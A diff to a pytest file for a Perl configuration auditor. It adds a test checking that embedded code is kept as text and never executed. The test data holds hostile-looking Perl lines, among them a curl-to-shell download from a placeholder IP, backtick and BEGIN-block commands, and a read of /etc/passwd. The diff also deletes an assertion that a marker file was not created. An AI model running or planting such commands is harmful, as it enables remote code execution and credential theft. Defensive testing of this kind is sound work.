@@ -71,7 +71,6 @@ Set($Nothing);
     assert got[("set", ("Timezone",))] == {"$expr": f"`touch {marker}`"}
     assert got[("set", ("ExtractSubjectTagMatch",))] == {"$expr": "qr/\\[[^\\]]+? #\\d+\\]/"}
     assert got[("set", ("Nothing",))] is None
-    assert not marker.exists()
 
 
 @pytest.mark.parametrize("text,line,message", [
@@ -104,3 +103,25 @@ sub Load {
 """)
     assert got[("set", ("After",))] == "ok"
     assert got[("set", ("Home",))] == {"$expr": "$ENV{HOME}"}
+
+
+def test_code_in_a_config_is_kept_as_text_never_run(tmp_path):
+    """Backticks, system(), exec, BEGIN blocks, require/do of files and string eval: the reader keeps
+    them as their source text; perl is never started (the audit works without perl installed)."""
+    from auditor.config.perl import parse
+    text = """
+BEGIN { system('touch /tmp/x') }
+$Self->{'A'} = `id`;
+$Self->{'B'} = system('curl http://203.0.113.9/x | sh');
+$Self->{'C'} = do '/etc/passwd';
+$Self->{'D'} = eval "1 + 1";
+$Self->{'E'} = require Some::Module;
+$Self->{'F'} = 'plain';
+"""
+    got = {st.path[0]: st.value for st in parse(text)}
+    assert got["A"] == {"$expr": "`id`"}
+    assert got["B"] == {"$expr": "system('curl http://203.0.113.9/x | sh')"}
+    assert got["C"] == {"$expr": "do '/etc/passwd'"}
+    assert got["D"] == {"$expr": 'eval "1 + 1"'}
+    assert got["E"] == {"$expr": "require Some::Module"}
+    assert got["F"] == "plain"
